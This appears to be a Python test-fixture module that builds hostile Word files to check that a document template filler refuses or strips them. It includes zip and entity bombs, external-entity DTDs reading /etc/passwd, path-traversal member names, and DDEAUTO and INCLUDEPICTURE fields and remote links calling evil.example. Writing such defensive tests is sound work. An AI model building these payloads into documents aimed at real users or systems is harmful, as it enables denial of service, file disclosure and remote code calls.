"""Word files made to do harm: bombs, traps, and what calls outside. Each is refused, or its harm is left out."""

import io
import struct
import warnings
import zipfile
from collections.abc import Callable, Iterable
from typing import Literal, NamedTuple

from builders import Link, P, Part, R, drawing, field, header, letter, root
from wordfile import members_of, zipped

from pressdesk.word.xml import HEAD

Outcome = Literal["refused", "dropped", "filled"]
MB = 2**20
PLACE = P("", R("{{ label }}"))
PLAIN = letter(PLACE)
MAIN, STYLES, TYPES = "word/document.xml", "word/styles.xml", "[Content_Types].xml"


class Hostile(NamedTuple):
    """A file, what must become of it, and words that must not be in what is written."""

    name: str
    make: Callable[[], bytes]
    outcome: Outcome = "refused"
    never: tuple[str, ...] = ()


def with_main(inside: str) -> bytes:
    """Return a file with this body."""
    return zipped({**members_of(PLAIN), MAIN: root("document", f"<w:body>{inside}</w:body>")})


def with_text(name: str, text: str) -> bytes:
    """Return a file with one part in these words."""
    return zipped({**members_of(PLAIN), name: text})


def deflated(name: str, pieces: Iterable[bytes]) -> bytes:
    """Return a file with one long member, packed piece by piece."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for each, text in members_of(PLAIN).items():
            if each != name:
                archive.writestr(each, text)
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w") as file:
            for piece in pieces:
                file.write(piece)
    return made.getvalue()


def directory_says(offset: int, value: int) -> bytes:
    """Return a file whose directory says something else of its last member: at 8 flags, 20 packed size, 24 size."""
    data = bytearray(deflated("word/media/a.bin", [bytes(range(256)) * 64]))
    struct.pack_into("<H" if offset < 16 else "<I", data, data.rindex(b"PK\x01\x02") + offset, value)
    return bytes(data)


def twice(name: str, other: str = "") -> bytes:
    """Return a file with one more member of this name, or of another that means the same."""
    made = io.BytesIO(PLAIN)
    with zipfile.ZipFile(made, "a") as archive, warnings.catch_warnings(action="ignore"):
        info = zipfile.ZipInfo("x")
        info.filename = other or name
        archive.writestr(info, members_of(PLAIN)[name].replace("label", "status"))
    return made.getvalue()


def overlapping() -> bytes:
    """Return a file whose directory lists one packed member 2,000 times under other names."""
    data = deflated("word/media/a0000.bin", [b"\0" * MB])
    start, end = data.rindex(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
    entries = [data[start:end].replace(b"a0000.bin", f"a{n:04}.bin".encode()) for n in range(1, 2000)]
    more = b"".join(entries)
    tail = bytearray(data[end:])
    count = struct.unpack_from("<H", tail, 8)[0] + len(entries)
    size = struct.unpack_from("<I", tail, 12)[0] + len(more)
    struct.pack_into("<HHI", tail, 8, count, count, size)
    return data[:end] + more + bytes(tail)


def noise(size: int) -> Iterable[bytes]:
    """Return a document of this many bytes of small elements, mixed so that it does not pack too well."""
    yield root("document", "<w:body>").removesuffix("</w:document>").encode()
    seed, written = 1, 0
    while written < size:
        seed = seed * 1_103_515_245 + 12_345 & 0x7FFF_FFFF
        piece = (
            b"".join(b'<w:p w:rsidR="%08X"><w:r/></w:p>' % (seed * n & 0xFFFFFFFF) for n in range(8))
            + b"<w:p><w:r/></w:p>" * 900
        )
        written += len(piece)
        yield piece
    yield b"</w:body></w:document>"


LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(10))
BOMB = f"<!DOCTYPE x [{LAUGHS}]><x>&a9;</x>"
FILE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/hostname">]><x>&f;</x>'
OWN = Part("customXml/item1.xml", FILE, "customXml", "application/xml", "own")
FAR = "https://evil.example/"
INNER = zipped({"deep.txt": "0" * MB})
CALLS = (FAR, "evil.example")
_WORD = "application/vnd.ms-word."
PACKAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/package"


def external(kind: str, body: str, *, of: str = MAIN, name: str = "") -> Hostile:
    """Return a file that calls outside through a relationship of this kind."""
    return Hostile(
        name or f"outside: {kind}", lambda: letter(body, PLACE, Link("far", f"{FAR}x", kind, of)), "dropped", CALLS
    )


def bombs() -> Iterable[Hostile]:
    """Return what unpacks or grows to far more than it shows."""
    yield Hostile("30 MB of zeros in a picture", lambda: deflated("word/media/a.png", [b"0" * MB] * 30))
    yield Hostile("500 MB of spaces in the document", lambda: deflated(MAIN, [b" " * MB] * 500))
    yield Hostile(
        "80 members of 1 MB",
        lambda: zipped({**members_of(PLAIN), **{f"word/media/{n}.bin": "0" * MB for n in range(80)}}),
        "filled",
    )
    yield Hostile(
        "400 members of 1 MB",
        lambda: zipped({**members_of(PLAIN), **{f"word/media/{n}.bin": "0" * MB for n in range(400)}}),
    )
    yield Hostile("one member listed 2,000 times", overlapping)
    yield Hostile("40 MB of small elements", lambda: deflated(MAIN, noise(40 * MB)))
    yield Hostile("10 MB of small elements", lambda: deflated(MAIN, noise(10 * MB)), "dropped")
    yield Hostile("3 GB declared", lambda: directory_says(24, 3 * 2**30))
    yield Hostile("4 GB declared as packed", lambda: directory_says(20, 2**32 - 2), "dropped")
    yield Hostile("10 bytes declared", lambda: directory_says(24, 10))
    yield Hostile("100,000 members", lambda: zipped({**members_of(PLAIN), **{f"a/{n}": "" for n in range(100_000)}}))
    yield Hostile("a zip in a zip", lambda: zipped({"letter.docx": PLAIN.decode("latin-1")}))
    yield Hostile("entities that grow", lambda: with_text(MAIN, BOMB))
    rels = ("_rels/.rels", "word/_rels/document.xml.rels")
    for part in (TYPES, *rels, STYLES, "word/settings.xml", "word/theme.xml", "docProps/core.xml", "docProps/app.xml"):
        yield Hostile(f"entities in {part}", lambda part=part: with_text(part, HEAD + BOMB), "dropped", ("ENTITY",))
        yield Hostile(f"a DTD in {part}", lambda part=part: with_text(part, FILE), "dropped", ("ENTITY",))
    yield Hostile("a DTD in a part of one's own", lambda: letter(PLACE, OWN), "dropped", ("ENTITY",))
    yield Hostile("an entity of a file", lambda: with_text(MAIN, FILE), never=("hostname",))
    yield Hostile("a DTD in UTF-16", lambda: _in_utf_16(FILE))
    yield Hostile("100,000 elements deep", lambda: with_main("<w:p>" * 100_000 + "</w:p>" * 100_000))
    yield Hostile("5,000 elements deep", lambda: with_main("<w:p>" * 5_000 + "</w:p>" * 5_000))
    yield Hostile("200 elements deep", lambda: with_main(P("", "<w:ins>" * 200 + "</w:ins>" * 200) + PLACE), "filled")
    yield Hostile("12 MB in one word", lambda: with_main(P("", R(" ".join(map(str, range(2 * MB)))))))
    yield Hostile("300,000 attributes", lambda: with_main(_many('a{0}=""', 300_000)), "filled")
    yield Hostile("20,000 namespaces", lambda: with_main(_many('xmlns:a{0}="u{0}"', 20_000)), "filled")


def _many(attribute: str, count: int) -> str:
    return f"<w:p {' '.join(attribute.format(n) for n in range(count))}/>"


def _in_utf_16(text: str) -> bytes:
    return deflated(MAIN, [f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode("utf-16")])


def names() -> Iterable[Hostile]:
    """Return what the names of members and relationships can do."""
    yield Hostile("a member twice", lambda: twice(MAIN))
    yield Hostile("a member twice in another case", lambda: twice(MAIN, "word/DOCUMENT.xml"))
    for name in (
        "../../evil.txt",
        "/etc/evil.txt",
        "word/../../evil.txt",
        "C:\\evil.txt",
        "word\\evil.txt",
        "word/./evil.txt",
    ):
        yield Hostile(
            f"the name {name}", lambda name=name: zipped({**members_of(PLAIN), name: "evil"}), "dropped", ("evil",)
        )
    yield Hostile(
        "a name of 60,000 letters", lambda: zipped({**members_of(PLAIN), "a" * 60_000: "x"}), "dropped", ("aaaa",)
    )
    for target in ("file:///etc/passwd", "\\\\evil.example\\share\\a.png"):
        yield Hostile(
            f"a picture at {target[:9]}",
            lambda target=target: letter(P("", drawing("far", embed="r:link")), PLACE, Link("far", target, "image")),
            "dropped",
            ("/etc/passwd", "evil.example"),
        )
    yield Hostile("locked with a password", lambda: directory_says(8, 1))


def callers() -> Iterable[Hostile]:
    """Return what calls outside, runs or brings another file."""
    image = '<w:r><w:pict><v:shape id="a"><v:imagedata r:href="far"/></v:shape></w:pict></w:r>'
    yield external("image", P("", drawing("far", embed="r:link")))
    yield external("image", P("", drawing("far", embed="r:embed")), name="outside: an embedded picture")
    yield external("image", P("", image), name="outside: an old picture")
    yield external(
        "oleObject",
        P("", '<w:r><w:object><o:OLEObject Type="Link" ProgID="Word.Document" r:id="far"/></w:object></w:r>'),
    )
    yield external("aFChunk", '<w:altChunk r:id="far"/>')
    yield external("subDocument", '<w:p><w:subDoc r:id="far"/></w:p>')
    yield external("attachedTemplate", "", of="word/settings.xml")
    yield external("mailMergeSource", "", of="word/settings.xml")
    for part in ("theme", "numbering", "fontTable", "styles"):
        yield external("image", "", of=f"word/{part}.xml", name=f"outside: from {part}")
    for part, kind in (("webSettings", "frame"), ("glossary/document", "image"), ("people", "image")):
        yield Hostile(
            f"outside: from {part}",
            lambda part=part, kind=kind: letter(PLACE, _other(part), Link("far", f"{FAR}x", kind, f"word/{part}.xml")),
            "dropped",
            CALLS,
        )
    yield external(
        "http://schemas.microsoft.com/office/2006/relationships/attachedToolbars", "", name="outside: toolbars"
    )
    yield external("video", P("", drawing("far", embed="r:link")))
    codes = {
        "DDEAUTO": "c:\\\\x.exe evil.example",
        "DDE": "excel evil.example r1",
        "INCLUDETEXT": f'"{FAR}a"',
        "INCLUDEPICTURE": f'"{FAR}a" \\d',
        "IMPORT": f'"{FAR}a"',
        "LINK": f"Excel.Sheet {FAR}a",
    }
    for code, argument in codes.items():
        yield Hostile(
            f"field {code}", lambda f=f"{code} {argument}": letter(P("", field(f, R("x"))), PLACE), "dropped", CALLS
        )
    yield Hostile(
        "a field in letters of both cases",
        lambda: letter(P("", field(f'IncludePicture "{FAR}a"', R("x"))), PLACE),
        "dropped",
        CALLS,
    )
    yield Hostile("a field in pieces", lambda: letter(P("", _split_code()), PLACE), "dropped", CALLS)
    yield Hostile(
        "a simple field",
        lambda: letter(P("", f'<w:fldSimple w:instr=" DDEAUTO {FAR} x">{R("x")}</w:fldSimple>'), PLACE),
        "dropped",
        CALLS,
    )
    yield Hostile(
        "a field in a header",
        lambda: letter(PLACE, header("first", P("", field(f'INCLUDETEXT "{FAR}a"', R("x"))))),
        "dropped",
        CALLS,
    )
    yield Hostile("macros", lambda: with_text("word/vbaProject.bin", "x"))
    kind = f"{_WORD}document.macroEnabled.main+xml"
    yield Hostile(
        "a .docm",
        lambda: with_text(
            TYPES,
            members_of(PLAIN)[TYPES].replace(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", kind
            ),
        ),
    )
    for name, relation in {
        "word/embeddings/a.docx": PACKAGE,
        "word/embeddings/a.bin": "oleObject",
        "word/activeX/activeX1.xml": "control",
        "customUI/customUI14.xml": "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
        "word/a.html": "aFChunk",
    }.items():
        of = "" if "customUI" in name else MAIN
        part = Part(
            name,
            INNER.decode("latin-1") if "docx" in name else "<evil/>",
            relation,
            "application/octet-stream",
            "more",
            of,
        )
        yield Hostile(f"a part {name}", lambda part=part: letter(PLACE, part), "dropped", ("evil", "deep.txt"))


def _other(part: str) -> Part:
    relation = {"glossary/document": "glossaryDocument"}.get(part, part)
    kind = f"application/vnd.openxmlformats-officedocument.wordprocessingml.{part.replace('/', '.')}+xml"
    return Part(f"word/{part}.xml", root(relation, ""), relation, kind, relation)


def _split_code() -> str:
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("INC", "LUDEPIC", f'TURE "{FAR}a"'))
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return begin + pieces + end


def mazes() -> Iterable[Hostile]:
    """Return what is slow or endless to read for who reads it carelessly."""
    yield Hostile("100,000 braces", lambda: with_main(P("", R("{" * 100_000))))
    yield Hostile("100,000 pairs of braces", lambda: with_main(P("", R("{{ " * 50_000 + " }}" * 50_000))))
    yield Hostile(
        "40,000 runs in one paragraph",
        lambda: with_main(PLACE + P("", "".join(R(c) for c in "x {{ label }} " * 3_000))),
        "filled",
    )
    yield Hostile("5,000 places", lambda: with_main(PLACE * 5_000), "filled")
    yield Hostile(
        "5,000 tables", lambda: with_main((f"<w:tbl><w:tr><w:tc>{PLACE}</w:tc></w:tr></w:tbl>") * 5_000), "filled"
    )
    deep = "<w:tbl><w:tr><w:tc>" * 60 + PLACE + "</w:tc></w:tr></w:tbl><w:p/>" * 60
    yield Hostile("60 tables deep", lambda: with_main(deep), "filled")
    loop = '<w:style w:type="paragraph" w:styleId="{0}"><w:name w:val="{0}"/><w:basedOn w:val="{1}"/></w:style>'
    own = f"{loop.format('A', 'B')}{loop.format('B', 'A')}</w:styles>"
    yield Hostile(
        "styles in a circle", lambda: with_text(STYLES, members_of(PLAIN)[STYLES].replace("</w:styles>", own)), "filled"
    )
    circle = Part("word/header1.xml", root("hdr", PLACE), "header", "x", "h1")
    yield Hostile(
        "a part related to itself",
        lambda: letter(PLACE, circle, Link("self", "header1.xml", "header", "word/header1.xml")),
        "filled",
    )


HOSTILE = [*bombs(), *names(), *callers(), *mazes()]
